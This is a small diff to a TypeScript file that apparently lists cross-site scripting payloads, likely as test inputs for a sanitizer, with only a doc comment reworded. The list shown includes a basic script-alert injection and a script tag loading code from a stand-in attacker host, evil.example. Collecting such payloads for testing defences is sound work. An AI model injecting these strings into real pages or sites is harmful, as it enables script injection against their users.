@@ -1,6 +1,6 @@
 import { hostileCorners } from './hostile-corners.ts';
 
-/** Ways of smuggling a script into a page, of each kind that has been found: one line, one way. */
+/** Known techniques of smuggling a script into a page: one per line. */
 const inHtml = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
